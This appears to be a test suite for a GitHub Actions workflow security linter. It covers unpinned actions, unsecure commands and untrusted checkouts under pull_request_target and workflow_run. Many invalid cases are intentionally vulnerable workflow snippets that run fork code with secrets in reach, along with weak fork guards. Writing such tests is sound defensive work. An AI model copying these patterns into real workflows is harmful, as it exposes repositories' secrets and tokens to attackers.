        name: 'no permissions in the called workflow, one caller sets none and one grants only code-scanning alerts: medium, naming the default',
        files: {
          [CALLED]: called('', '', '      - uses: someone/scanner@v1\n'),
          [CALLER]: callerOn('schedule'),
          '.github/workflows/push.yml': 'name: ci\non: push\njobs:\n' + caller('scan')
        },
        errors: [{ path: CALLED, line: lineOf(called('', '', '      - uses: someone/scanner@v1\n'), 'someone/scanner'), severity: 'medium', message: /the token its callers grant writes nothing but code-scanning alerts .*\(where nothing sets `permissions:`, the repository default/ }]
      },
      {
        name: 'a called workflow is judged by its own permissions, whatever its caller leaves out',
        files: { [CALLED]: called(OIDC_READ, '', '      - uses: someone/tool@v1\n'), [CALLER]: bare(caller('acceptance')) },
        errors: [{ path: CALLED, line: lineOf(called(OIDC_READ, '', '      - uses: someone/tool@v1\n'), 'someone/tool'), severity: 'high' }]
      }
    ]
  },
  'workflow/unpinned-action-read-only': {
    valid: [
      { code: push(job('b', `      - uses: someone/tool@${SHA} # v1\n`)) },
      { name: 'exposed job (the high form)', code: push(job('b', '      - uses: someone/tool@v1\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n')) },
      { name: 'a Codecov token read by a run step too: a secret (the high form)', code: push(job('b', '      - uses: codecov/codecov-action@v5\n        with:\n          token: ${{ secrets.CODECOV_TOKEN }}\n      - run: echo "$T"\n        env:\n          T: ${{ secrets.CODECOV_TOKEN }}\n')) },
      { name: 'a Codecov token beside another secret: the high form', code: push(job('b', '      - uses: codecov/codecov-action@v5\n        with:\n          token: ${{ secrets.CODECOV_TOKEN }}\n      - uses: someone/tool@v1\n        with:\n          key: ${{ secrets.DEPLOY_KEY }}\n')) },
      { name: 'another secret handed to the Codecov action: still that secret (the high form)', code: push(job('b', '      - uses: codecov/codecov-action@v5\n        with:\n          token: ${{ secrets.NPM_PUBLISH_TOKEN }}\n')) },
      { name: 'a secret handed to another action under the name token: the high form', code: push(job('b', '      - uses: someone/coverage@v1\n        with:\n          token: ${{ secrets.CODECOV_TOKEN }}\n')) },
      { name: 'an OIDC token on pull_request only: not read-only (the high form)', code: push(job('b', '      - uses: someone/tool@v1\n', '    permissions:\n      contents: read\n      id-token: write\n'), 'pull_request') }
    ],
    invalid: [
      { code: push(job('b', '      - uses: docker/login-action@v3\n')), errors: [{ line: 10, severity: 'medium', message: /read-only token/ }] },
      { name: 'short sha and no ref', code: push(job('b', '      - uses: someone/tool@abc1234\n      - uses: someone/tool\n')), errors: [{ line: 10 }, { line: 11 }] },
      {
        name: 'a Codecov upload token handed only to the Codecov action (input or env): medium, saying so',
        code: push(job('b', '      - uses: codecov/codecov-action@v5\n        with:\n          token: ${{ secrets.CODECOV_TOKEN }}\n      - uses: codecov/codecov-action@v5\n        env:\n          CODECOV_TOKEN: ${{ secrets.CODECOV_TOKEN }}\n')),
        errors: [
          { line: 10, severity: 'medium', message: /no secrets \(it hands an upload token only to `codecov\/codecov-action`, which can only add reports with it\)\)\.$/ },
          { line: 13, severity: 'medium' }
        ]
      },
      { name: 'the job passes only its own read-only GITHUB_TOKEN', code: push(job('b', '      - uses: someone/labeler@v2\n        with:\n          token: ${{ secrets.GITHUB_TOKEN }}\n')), errors: [{ line: 10, severity: 'medium' }] },
      {
        name: 'a pull_request-only check handing nothing on (its cache stays in the pull request): low, saying why',
        code: push(job('b', `      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          cache: npm\n      - uses: azure/setup-kubectl@v4\n      - run: yarn build\n`), 'pull_request'),
        errors: [{ line: 14, severity: 'low', message: /Low: the workflow runs only on `pull_request` .*merge ref/ }]
      },
      {
        name: 'a matrix of GitHub-hosted runners on pull_request only: low',
        code: push(job('b', '      - uses: someone/tool@v1\n', '    strategy:\n      matrix:\n        os: [ubuntu-latest, macos-latest]\n').replace('ubuntu-latest\n    timeout', '${{ matrix.os }}\n    timeout'), 'pull_request'),
        errors: [{ line: 13, severity: 'low' }]
      },
      { name: 'also on push: medium', code: push(job('b', '      - uses: someone/tool@v1\n'), '[push, pull_request]'), errors: [{ line: 10, severity: 'medium' }] },
      { name: 'pull_request and merge_group (a queue run decides what lands on the base branch): medium', code: push(job('b', '      - uses: someone/tool@v1\n'), '[pull_request, merge_group]'), errors: [{ line: 10, severity: 'medium' }] },
      {
        name: 'an artifact upload (a workflow_run workflow may trust it): medium',
        code: push(job('b', '      - uses: someone/tool@v1\n      - uses: actions/upload-artifact@v4\n        with:\n          path: dist\n'), 'pull_request'),
        errors: [{ line: 10, severity: 'medium' }]
      },
      {
        name: 'a Pages build and deploy: medium',
        code: push(job('b', '      - uses: someone/site-builder@v1\n      - uses: actions/upload-pages-artifact@v3\n      - uses: actions/deploy-pages@v4\n'), 'pull_request'),
        errors: [{ line: 10, severity: 'medium' }]
      },
      { name: 'a git push through an option of git: medium', code: push(job('b', '      - uses: someone/tool@v1\n      - run: git -C site push origin HEAD\n'), 'pull_request'), errors: [{ line: 10, severity: 'medium' }] },
      { name: 'a gh release upload spelled with a YAML escape: medium', code: push(job('b', '      - uses: someone/tool@v1\n      - run: "gh rel\\x65ase upload v1 dist.tgz"\n'), 'pull_request'), errors: [{ line: 10, severity: 'medium' }] },
      { name: 'a docker push: medium', code: push(job('b', '      - uses: someone/tool@v1\n      - run: docker push ghcr.io/acme/app:pr\n'), 'pull_request'), errors: [{ line: 10, severity: 'medium' }] },
      { name: 'a self-hosted runner (it may keep files for later jobs): medium', code: push(job('b', '      - uses: someone/tool@v1\n').replace('ubuntu-latest', '[self-hosted, linux]'), 'pull_request'), errors: [{ line: 10, severity: 'medium' }] },
      { name: 'a local action whose steps are not read here: medium', code: push(job('b', '      - uses: someone/tool@v1\n      - uses: ./.github/actions/build\n'), 'pull_request'), errors: [{ line: 10, severity: 'medium' }] },
      { name: 'the same by the self-repository reference: medium', code: push(job('b', '      - uses: someone/tool@v1\n      - uses: $/.github/actions/publish\n'), 'pull_request'), errors: [{ line: 10, severity: 'medium' }] },
      {
        name: 'a later job that needs it holds a secret: medium',
        code: push(job('b', '      - uses: someone/tool@v1\n') + '  c:\n    needs: b\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n      - run: ./notify "$T"\n        env:\n          T: ${{ secrets.SLACK }}\n', 'pull_request'),
        errors: [{ line: 10, severity: 'medium' }]
      }
    ]
  },
  'workflow/unpinned-same-owner': {
    valid: [
      { name: 'own action pinned', repository: 'acme/app', code: push(job('b', `      - uses: acme/shared-actions/setup@${SHA} # v2\n`)) },
      { name: 'another owner (the third-party rules)', repository: 'acme/app', code: push(job('b', '      - uses: someone/tool@v1\n')) }
    ],
    invalid: [
      { repository: 'acme/app', code: push(job('b', '      - uses: acme/shared-actions/setup@v2\n')), errors: [{ line: 10, severity: 'low' }] },
      { name: 'owner compared case-insensitively, reusable workflow', repository: 'Acme/app', code: push('  call:\n    uses: acme/workflows/.github/workflows/build.yml@main\n'), errors: [{ line: 7, message: /reusable workflow/ }] }
    ]
  },
  'workflow/unpinned-first-party-action': {
    valid: [{ name: 'released tag of a first-party action', code: push(job('b', '      - uses: actions/checkout@v4\n')) }],
    invalid: [{ code: push(job('b', '      - uses: actions/setup-node@main\n')), errors: [{ line: 10 }] }]
  },
  'workflow/unpinned-image': {
    valid: [{ code: push(job('b', '      - run: make\n', `    container:\n      image: node@${DIGEST}\n`)) }],
    invalid: [
      { code: push(job('b', '      - run: make\n', '    container:\n      image: node:20\n')), errors: [{ line: 10 }] },
      { name: 'docker:// step', code: push(job('b', '      - uses: docker://alpine:3.20\n')), errors: [{ line: 10 }] }
    ]
  },
  'workflow/unsecure-commands': {
    valid: [{ code: push(job('b', '      - run: make\n        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: false\n')) }],
    invalid: [{ code: push(job('b', "      - run: make\n        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: 'true'\n")), errors: [{ line: 12 }] }]
  },
  'workflow/untrusted-checkout': {
    valid: [
      { name: 'pull_request (no secrets) checking out the head', code: push(job('b', `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n`), 'pull_request') },
      { name: 'refs/pull/ inside an image path', code: push(job('b', '      - run: docker pull ghcr.io/acme/app/refs/pull/cache:1.0\n'), 'pull_request_target') },
      { name: 'a double-quoted fetch alone, read out of its quotes like a plain one', code: push(job('b', '      - run: "git fetch origin ${{ github.head_ref }}"\n'), 'pull_request_target') },
      {
        name: 'pull_request_target job guarded to pull requests from the same repository',
        code: push(`  b:\n    if: github.event.pull_request.head.repo.full_name == github.repository\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n`, 'pull_request_target')
      },
      { name: 'pull_request_target checking out the base', code: push(job('b', `      - uses: actions/checkout@${SHA}\n      - run: make lint\n`), 'pull_request_target') },
      {
        name: 'fetching the head only to diff it against the base: nothing of it reaches the workspace',
        code: push(job('b', `      - uses: actions/checkout@${SHA}\n      - run: |\n          git fetch origin pull/$PR/head\n          git diff "$BASE"..."$HEAD" > pr.diff\n      - run: python3 scripts/review.py pr.diff\n`), 'pull_request_target')
      },
      {
        name: 'checkout step guarded to pull requests from the same repository',
        code: push(job('b', `      - uses: actions/checkout@${SHA}\n        if: \${{ ${SAME_REPO} }}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n`), 'pull_request_target')
      },
      {
        name: 'several privileged triggers, each kept out by the guard',
        code: guardedHeadCheckout(`github.event.workflow_run.head_repository.full_name == github.repository || ${SAME_REPO}`, '[pull_request_target, workflow_run]')
      },
      {
        name: 'issue_comment: the guard reads pull request fields an issue comment does not have, so the job skips it',
        code: guardedHeadCheckout(SAME_REPO, '[pull_request_target, issue_comment]')
      },
      {
        name: 'issue_comment told apart by the event name',
        code: guardedHeadCheckout(`github.event_name != 'issue_comment' && github.actor != 'bot' && ${SAME_REPO}`, '[pull_request_target, issue_comment]')
      },
      { name: 'head owner compared with the repository owner', code: guardedHeadCheckout('github.event.pull_request.head.repo.owner.login == github.repository_owner', 'pull_request_target') },
      { name: 'pull requests authored by Dependabot only (its branches live in this repository)', code: guardedHeadCheckout("github.event.pull_request.user.login == 'dependabot[bot]'", 'pull_request_target') },
      { name: 'head named by a literal that is this repository', repository: 'Acme/Widgets', code: guardedHeadCheckout("github.event.pull_request.head.repo.full_name == 'acme/widgets'", 'pull_request_target') },
      {
        name: 'checkout step guarded by comparing the head with the base repository',
        code: push(job('b', `      - uses: actions/checkout@${SHA}\n        if: github.event.pull_request.base.repo.full_name == github.event.pull_request.head.repo.full_name\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n`), 'pull_request_target')
      },
      {
        name: 'workflow_run job guarded to runs from the same repository',
        code: push(`  b:\n    if: github.event.workflow_run.head_repository.full_name == github.repository\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.workflow_run.head_sha }}\n`, 'workflow_run')
      },
      { name: "a single-quoted '\\x24{{ … }}' is literal text, not the head ref", code: quotedHeadFetch("'git fetch origin \\x24{{ github.head_ref }} && git checkout FETCH_HEAD'") }
    ],
    invalid: [
      {
        name: 'no step after the checkout runs its code, no secret, a token writing only pull requests: medium',
        code: headThen(READS_CHANGED_FILES),
        errors: [{ line: 14, severity: 'medium', message: /; but no step after the checkout runs code from it, as far as Preflight reads the steps .*what remains at risk is the job's token \(no secret beside it\), which writes only pull request or issue conversations\.$/ }]
      },
      { name: 'the same with a read-only token: medium, writing nothing', code: headThen(READS_CHANGED_FILES, ''), errors: [{ line: 11, severity: 'medium', message: /which writes nothing\.$/ }] },
      { name: 'the same with no permissions written (the repository default token): high', code: headThen(READS_CHANGED_FILES, '').replace('permissions: {}\n', ''), errors: [{ line: 10, severity: 'high', message: /no step after the checkout runs code from it/ }] },
      {
        name: 'a bot token persisted, only tools from trusted copies run over the files: high',
        code: trustedToolOverHead(),
        errors: [{ line: 13, severity: 'high', message: /what remains at risk is the job's secrets and token, left within reach of the checkout/ }]
      },
      { name: 'the same, then npm run in the checkout: critical', code: trustedToolOverHead('      - run: |\n          cd pr\n          npm test\n'), errors: [{ line: 13, severity: 'critical', message: /write token\.$/ }] },
      {
        name: 'a workspace path entered from the trusted copy is the checkout again: critical',
        code: trustedToolOverHead('      - run: |\n          cd tool\n          cd "$GITHUB_WORKSPACE/pr"\n          npm run build\n'),
        errors: [{ line: 13, severity: 'critical' }]
      },
      {
        name: 'a file of the checkout copied into the trusted copy before npm runs there: critical',
        code: headThen(`      - uses: actions/checkout@${SHA}\n        with:\n          repository: acme/tool\n          path: tool\n      - run: |\n          cp pr/.npmrc tool/\n          cd tool && npm ci\n`, undefined, '          path: pr\n'),
        errors: [{ line: 14, severity: 'critical' }]
      },
      {
        name: 'a subshell entering the trusted copy leaves the script in the checkout: critical',
        code: trustedToolOverHead('      - run: |\n          cd pr\n          (cd ../tool && npm ci)\n          npm run build\n'),
        errors: [{ line: 13, severity: 'critical' }]
      },
      { name: 'a script of the checkout run by bash: critical', code: headThen(READS_CHANGED_FILES + '      - run: bash scripts/check.sh\n'), errors: [{ line: 14, severity: 'critical' }] },
      { name: 'an interpreter inside a substitution: critical', code: headThen('      - run: echo "n=$(python3 tools/count.py)" >> "$GITHUB_OUTPUT"\n'), errors: [{ line: 14, severity: 'critical' }] },
      { name: 'find running a command on the files: critical', code: headThen("      - run: find . -name '*.sh' -exec sh {} \\;\n"), errors: [{ line: 14, severity: 'critical' }] },
      { name: 'sed reading its program from the checkout: critical', code: headThen('      - run: sed -f rules.sed notes.txt\n'), errors: [{ line: 14, severity: 'critical' }] },
      { name: 'git pointed at hooks of the checkout before a commit: critical', code: headThen('      - run: |\n          git config user.name bot\n          git config core.hooksPath .githooks\n          git commit -am update\n'), errors: [{ line: 14, severity: 'critical' }] },
      { name: 'a local action: critical', code: headThen('      - uses: ./.github/actions/lint\n'), errors: [{ line: 14, severity: 'critical' }] },
      { name: 'an action not known to only read files: critical', code: headThen(`      - uses: someone/build-and-test@${SHA}\n`), errors: [{ line: 14, severity: 'critical' }] },
      { name: 'a cache saved from inside the checkout: critical', code: headThen(`      - uses: actions/cache@${SHA}\n        with:\n          path: node_modules\n          key: deps\n`), errors: [{ line: 14, severity: 'critical' }] },
      {
        name: 'the fetched head checked out on a later step',
        code: push(job('b', `      - uses: actions/checkout@${SHA}\n      - run: git fetch origin pull/$PR/head\n      - run: git checkout FETCH_HEAD && make test\n`), 'pull_request_target'),
        errors: [{ line: 11 }]
      },
      { code: push(job('b', `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - run: npm test\n`), 'pull_request_target'), errors: [{ line: 12, severity: 'critical' }] },
      {
        name: 'checkout step whose condition does not exclude forks',
        code: push(job('b', `      - uses: actions/checkout@${SHA}\n        if: \${{ always() && github.event.pull_request.head.repo.full_name != github.repository }}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - run: make lint\n`), 'pull_request_target'),
        errors: [{ line: 13, severity: 'critical' }]
      },
      { name: 'git fetch of refs/pull', code: push(job('b', '      - run: |\n          git init .\n          git fetch origin refs/pull/${{ github.event.number }}/merge\n          git checkout FETCH_HEAD\n'), 'pull_request_target'), errors: [{ line: 12 }] },
      { name: 'workflow_run checking out the head of the triggering run', code: push(job('b', `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.workflow_run.head_sha }}\n`), 'workflow_run'), errors: [{ line: 12 }] },
      {
        name: 'a guard for pull_request_target lets workflow_run in',
        code: guardedHeadCheckout(`github.event_name == 'workflow_run' || ${SAME_REPO}`, '[pull_request_target, workflow_run]', 'github.event.workflow_run.head_sha'),
        errors: [
          { line: 13, severity: 'critical', message: /in a `workflow_run` workflow/ }
        ]
      },
      {
        name: 'issue_comment alongside pull_request_target, let in by the event name',
        code: guardedHeadCheckout(`github.event_name == 'issue_comment' || ${SAME_REPO}`, '[pull_request_target, issue_comment]'),
        errors: [{ line: 13, severity: 'critical', message: /in a `issue_comment` workflow/ }]
      },
      {
        name: 'issue_comment: a guard that does not read the pull request lets comments in',
        code: guardedHeadCheckout("github.actor != 'renovate[bot]'", '[pull_request_target, issue_comment]'),
        errors: [{ line: 13, message: /in a `pull_request_target` or `issue_comment` workflow/ }]
      },
      { name: 'github.actor is whoever triggered the run, not who wrote the pull request', code: guardedHeadCheckout("github.actor == 'dependabot[bot]'", 'pull_request_target'), errors: [{ line: 13, severity: 'critical' }] },
      { name: 'an author any GitHub App could be named after is no guard', code: guardedHeadCheckout("github.event.pull_request.user.login == 'deploy-helper[bot]'", 'pull_request_target'), errors: [{ line: 13, severity: 'critical' }] },
      { name: '`!head.repo.fork` passes for a deleted fork (!null)', code: guardedHeadCheckout('${{ !github.event.pull_request.head.repo.fork }}', 'pull_request_target'), errors: [{ line: 13, severity: 'critical' }] },
      { name: '`head.repo.fork == false` passes for a deleted fork', code: guardedHeadCheckout('github.event.pull_request.head.repo.fork == false', 'pull_request_target'), errors: [{ line: 13 }] },
      { name: 'head named by a literal while the repository is not known', code: guardedHeadCheckout("github.event.pull_request.head.repo.full_name == 'acme/widgets'", 'pull_request_target'), errors: [{ line: 13 }] },
      {
        name: 'head named by a literal that is another repository',
        repository: 'acme/app',
        code: guardedHeadCheckout("github.event.pull_request.head.repo.full_name == 'acme/widgets'", 'pull_request_target'),
        errors: [{ line: 13 }]
      },
      {
        name: 'guard that compares the head with something else',
        code: push(`  b:\n    if: github.event.pull_request.head.repo.full_name != github.repository\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - run: ./build.sh\n`, 'pull_request_target'),
        errors: [{ line: 13, severity: 'critical' }]
      },
      ...ESCAPED_DOLLARS.map((dollar) => ({
        name: `the head ref's expression spelled with ${dollar} in a double-quoted script`,
        code: quotedHeadFetch(`"git fetch origin ${dollar}{{ github.head_ref }} && git checkout FETCH_HEAD"`),
        errors: [{ line: 10, severity: 'critical' as const }]
      }))
    ]
  }
}
